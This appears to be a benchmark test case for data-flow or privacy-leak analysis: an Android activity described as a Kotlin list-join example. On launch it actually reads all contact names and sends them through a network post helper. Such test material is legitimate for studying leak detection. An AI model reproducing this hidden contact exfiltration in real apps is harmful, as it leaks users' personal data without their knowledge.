package com.example.flows.kotlin_join;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Kotlin joins a list of objects by a function. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        List<Person> people = new ArrayList<>();
        people.add(new Person(contacts()));
        Net.post(kotlin.collections.CollectionsKt.joinToString(people, ",", "", "", -1, "...",
                new kotlin.jvm.functions.Function1<Person, CharSequence>() {
                    @Override
                    public CharSequence invoke(Person person) { return person.getName(); }
                }));
    }
    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
